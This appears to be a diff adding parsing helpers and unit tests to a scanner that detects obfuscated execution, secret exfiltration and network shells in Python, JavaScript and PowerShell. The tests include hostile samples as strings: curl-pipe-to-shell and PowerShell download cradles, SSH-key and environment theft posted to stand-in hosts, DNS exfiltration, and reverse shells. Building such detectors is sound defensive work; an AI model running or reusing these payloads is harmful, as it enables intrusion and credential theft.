+/// PowerShell command names (`Verb-Noun`) and the aliases that matter.
+fn is_command_word(word: &str) -> bool {
+    let lower = word.to_ascii_lowercase();
+    (word.contains('-') && word.chars().next().is_some_and(|c| c.is_ascii_alphabetic()))
+        || matches!(
+            lower.as_str(),
+            "iex"
+                | "iwr"
+                | "irm"
+                | "curl"
+                | "wget"
+                | "gc"
+                | "sc"
+                | "ac"
+                | "gci"
+                | "ls"
+                | "dir"
+                | "echo"
+                | "cat"
+                | "type"
+                | "start"
+                | "saps"
+                | "schtasks"
+                | "gcb"
+                | "scb"
+                | "sleep"
+                | "cd"
+                | "cmd"
+                | "powershell"
+                | "pwsh"
+                | "reg"
+        )
+}
+
+fn binary_op(lang: Lang, token: Option<&Token>) -> Option<String> {
+    match &token?.tok {
+        Tok::Punct(p) => match *p {
+            "+" | "-" | "*" | "/" | "%" | "**" | "//" | "^" | "&" | "|" | "<<" | ">>" | ">>>" | "==" | "!=" | "==="
+            | "!==" | "<" | ">" | "<=" | ">=" | "&&" | "||" | "??" => {
+                if lang == Lang::PowerShell && *p == "|" {
+                    return None;
+                }
+                Some(p.to_string())
+            }
+            "?" if lang == Lang::JavaScript => Some("?".into()),
+            _ => None,
+        },
+        Tok::Ident(w) if lang == Lang::Python && matches!(*w, "and" | "or" | "in" | "is" | "if") => Some(w.to_string()),
+        Tok::Param(p) if lang == Lang::PowerShell => match p.as_str() {
+            "join" | "f" | "replace" | "split" | "bxor" | "band" | "bor" | "eq" | "ne" | "like" | "match" | "and"
+            | "or" | "lt" | "gt" | "contains" => Some(format!("-{p}")),
+            _ => None,
+        },
+        _ => None,
+    }
+}
+
+fn precedence(op: &str) -> u8 {
+    match op {
+        "if" | "?" => 1,
+        "or" | "||" | "??" | "-or" => 2,
+        "and" | "&&" | "-and" => 3,
+        "in" | "is" | "==" | "!=" | "===" | "!==" | "<" | ">" | "<=" | ">=" | "-eq" | "-ne" | "-like" | "-match"
+        | "-lt" | "-gt" | "-contains" => 4,
+        "|" | "-bor" => 5,
+        "^" | "-bxor" => 6,
+        "&" | "-band" => 7,
+        "<<" | ">>" | ">>>" => 8,
+        "+" | "-" => 9,
+        "*" | "/" | "%" | "//" | "-f" | "-join" | "-replace" | "-split" => 10,
+        "**" => 11,
+        _ => 0,
+    }
+}
+
+/// The index of the bracket closing the one at `open` (or the end).
+fn close_of(t: &[Token], open: usize) -> usize {
+    let (opener, closer) = match t.get(open).map(|x| &x.tok) {
+        Some(Tok::Punct("(")) => ("(", ")"),
+        Some(Tok::Punct("[")) => ("[", "]"),
+        Some(Tok::Punct("{")) => ("{", "}"),
+        _ => return open,
+    };
+    let mut depth = 0usize;
+    for (k, token) in t.iter().enumerate().skip(open) {
+        if let Tok::Punct(p) = &token.tok {
+            if *p == opener {
+                depth += 1;
+            } else if *p == closer {
+                depth -= 1;
+                if depth == 0 {
+                    return k;
+                }
+            }
+        }
+    }
+    t.len()
+}
+
+fn parts_text(parts: &[Part]) -> String {
+    parts
+        .iter()
+        .map(|p| match p {
+            Part::Text(t) => t.to_string(),
+            Part::Hole(_) => String::new(),
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::super::testing::{has, tags};
+    use super::*;
+
+    #[test]
+    fn python_folds_what_obfuscation_builds_and_sees_it_run() {
+        let codes: Vec<String> = "import os; os.system('id')".bytes().map(|b| b.to_string()).collect();
+        let hidden = format!("exec(''.join(map(chr, [{}])))", codes.join(", "));
+        assert!(has(&hidden, Lang::Python, "exec/computed"));
+        // Assembled, but hiding nothing the file does not spell: not a finding.
+        assert!(!has(
+            "exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))",
+            Lang::Python,
+            "exec/computed"
+        ));
+        assert!(!has(
+            "import subprocess\nsubprocess.run(' '.join(['gh', 'api', 'graphql']), shell=True)",
+            Lang::Python,
+            "exec/computed"
+        ));
+        assert!(has(
+            "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
+            Lang::Python,
+            "exec/decoded"
+        ));
+        assert!(has(
+            "import zlib, base64\nexec(zlib.decompress(base64.b64decode('eJwrKMrMK9EwBAAGvwHN')))",
+            Lang::Python,
+            "exec/decoded"
+        ));
+        assert!(has(
+            "import codecs\ngetattr(__import__(codecs.decode('bf', 'rot13')), codecs.decode('flfgrz', 'rot13'))('id')",
+            Lang::Python,
+            "exec/computed"
+        ));
+        assert!(has(
+            "s = 'hs | x/elpmaxe.x//:ptth lruc'[::-1]\nimport os\nos.system(s)",
+            Lang::Python,
+            "exec/computed"
+        ));
+        assert!(has(
+            "exec(bytes.fromhex('7072696e74283129').decode())",
+            Lang::Python,
+            "exec/decoded"
+        ));
+        assert!(has(
+            "code = marshal.loads(base64.b64decode(blob))\nexec(code)",
+            Lang::Python,
+            "exec/decoded"
+        ));
+        assert!(!has(
+            "exec(compile(open(path).read(), path, 'exec'))",
+            Lang::Python,
+            "exec"
+        ));
+    }
+
+    #[test]
+    fn folded_commands_are_read_as_shell() {
+        let t = tags(
+            "import os\nos.system('cu' + 'rl -s http://203.0.113.4/x | sh')",
+            Lang::Python,
+        );
+        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
+        let t = tags(
+            "import subprocess\nsubprocess.run(['bash', '-c', 'curl -s https://x.example/i | bash'])",
+            Lang::Python,
+        );
+        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
+        let t = tags(
+            "const { execSync } = require('child_process');\nexecSync(Buffer.from('Y3VybCBodHRwOi8vMjAzLjAuMTEzLjUveCB8IHNo', 'base64').toString());",
+            Lang::JavaScript,
+        );
+        assert!(t.iter().any(|t| t == "exec/decoded"), "{t:?}");
+        assert!(t.iter().any(|t| t == "exec/fetched"), "{t:?}");
+    }
+
+    #[test]
+    fn secrets_that_reach_a_request_are_flows() {
+        let t = tags(
+            "import os, requests\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nrequests.post('https://collector.example/u', data={'k': key})",
+            Lang::Python,
+        );
+        assert!(t.iter().any(|t| t == "secret-read/ssh-key"), "{t:?}");
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let t = tags(
+            "const t = process.env.NPM_TOKEN;\nfetch('https://hooks.slack.com/services/X', {method: 'POST', body: JSON.stringify({t})});",
+            Lang::JavaScript,
+        );
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let t = tags(
+            "fetch('https://collect.example/e', {method:'POST', body: JSON.stringify(process.env)})",
+            Lang::JavaScript,
+        );
+        assert!(t.iter().any(|t| t == "secret-read/env-dump"), "{t:?}");
+        assert!(t.iter().any(|t| t == "flow/secret-egress"), "{t:?}");
+        let ok = tags(
+            "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nrequests.post('https://api.openai.com/v1/x', headers={'Authorization': f'Bearer {key}'}, json={'q': 1})",
+            Lang::Python,
+        );
+        assert!(!ok.iter().any(|t| t == "flow/secret-egress"), "{ok:?}");
+        let t = tags(
+            "import socket, os\nsocket.gethostbyname(os.environ['AWS_SECRET_ACCESS_KEY'][:20] + '.x.example')",
+            Lang::Python,
+        );
+        assert!(t.iter().any(|t| t == "egress/dns"), "{t:?}");
+    }
+
+    #[test]
+    fn sockets_handed_to_a_shell_are_network_shells() {
+        let py = "import socket,os,pty\ns=socket.socket()\ns.connect(('203.0.113.9',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn('/bin/sh')";
+        assert!(has(py, Lang::Python, "network-shell"));
+        let js = "const net = require('net'), cp = require('child_process');\nconst sh = cp.spawn('/bin/sh', []);\nconst c = new net.Socket();\nc.connect(4444, '203.0.113.9', () => { c.pipe(sh.stdin); sh.stdout.pipe(c); });";
+        assert!(has(js, Lang::JavaScript, "network-shell"));
+        let ps = "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.9',443);$s = $c.GetStream();$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String)";
+        assert!(has(ps, Lang::PowerShell, "network-shell") || has(ps, Lang::PowerShell, "egress/socket"));
+    }
+
+    #[test]
+    fn powershell_cradles_and_encodings() {
+        assert!(has(
+            "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/a.ps1')",
+            Lang::PowerShell,
+            "exec/fetched"
+        ));
+        assert!(has(
+            "iwr https://x.example/p.ps1 | iex",
+            Lang::PowerShell,
+            "exec/fetched"
+        ));
+        let t = tags(
+            "$b = [Convert]::FromBase64String('aQBlAHgA'); $s = [Text.Encoding]::Unicode.GetString($b); iex $s",
+            Lang::PowerShell,
+        );
+        assert!(t.iter().any(|t| t == "exec/decoded"), "{t:?}");
+        let t = tags("$c = -join ([char[]](105,101,120)); & $c", Lang::PowerShell);
+        assert!(t.iter().any(|t| t == "exec/computed"), "{t:?}");
+        assert!(has(
+            "Get-ChildItem env: | Out-String | Invoke-RestMethod -Uri https://x.example/c -Method Post -Body $_",
+            Lang::PowerShell,
+            "secret-read/env-dump"
+        ));
+    }
+
+    #[test]
+    fn folding_is_bounded_and_hostile_code_parses() {
+        let t = tags("x = 'a' * 10**9\nexec(x)", Lang::Python);
+        assert!(t.is_empty() || !t.iter().any(|t| t == "exec/decoded"), "{t:?}");
+        let deep = format!("x = {}1{}", "(".repeat(10_000), ")".repeat(10_000));
+        tags(&deep, Lang::Python);
+        tags(&"[".repeat(50_000), Lang::JavaScript);
+        tags(&"f(".repeat(20_000), Lang::PowerShell);
+        let minified = "var a=1;".repeat(100_000);
+        tags(&minified, Lang::JavaScript);
+        let noise: String = (0..20000u32)
+            .map(|i| char::from_u32(32 + (i * 7919) % 95).unwrap_or(' '))
+            .collect();
+        for lang in [Lang::Python, Lang::JavaScript, Lang::PowerShell] {
+            tags(&noise, lang);
+        }
+    }
+}
